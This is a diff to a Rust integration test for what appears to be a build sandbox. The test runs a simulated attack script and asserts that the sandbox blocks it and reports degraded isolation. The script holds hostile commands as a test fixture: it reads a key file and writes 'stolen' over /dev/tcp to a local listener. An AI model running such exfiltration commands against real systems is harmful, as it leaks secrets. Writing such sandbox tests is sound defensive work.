@@ -119,6 +119,10 @@ fn layer<'a>(report: &'a Value, name: &str) -> &'a Value {
         .unwrap_or_else(|| panic!("no layer {name} in {:#}", report["sandbox"]))
 }
 
+fn v_of(path: &Path) -> Value {
+    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
+}
+
 fn stderr(o: &Output) -> String {
     String::from_utf8_lossy(&o.stderr).into_owned()
 }
@@ -205,6 +209,7 @@ fn run_in_the_degraded_mode_still_stops_and_reports_an_attack() {
     let script = format!(
         "cat {} 2>&1; exec 3<>/dev/tcp/127.0.0.1/{} && echo stolen >&3; \
          python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{}\")' 2>&1 | tail -1; \
+         touch \"$HOME/ok\" \"$TMPDIR/ok\" && echo private-dirs-writable; echo \"home=$HOME\" uid=$(id -u); \
          echo attack-ran; true",
         key.display(),
         listener.port,
@@ -225,6 +230,17 @@ fn run_in_the_degraded_mode_still_stops_and_reports_an_attack() {
     let err = stderr(&r);
     assert!(err.contains("attack-ran"), "{err}");
     assert!(err.contains("DEGRADED"), "the terminal says so: {err}");
+    // The private HOME and TMPDIR are the build's, not the caller's.
+    assert!(err.contains("private-dirs-writable"), "{err}");
+    if common::is_root() {
+        // Never root: sdist-box as root runs the build as an unprivileged uid.
+        assert!(err.contains("uid=4000000"), "{err}");
+        assert_eq!(layer(&v_of(&report), "uid")["state"], "enforced");
+    }
+    assert!(
+        !err.contains(&format!("home={}", home.path().display())),
+        "{err}"
+    );
     assert!(err.contains("NOT enforced"), "{err}");
     assert_eq!(listener.connections(), 0);
     assert!(
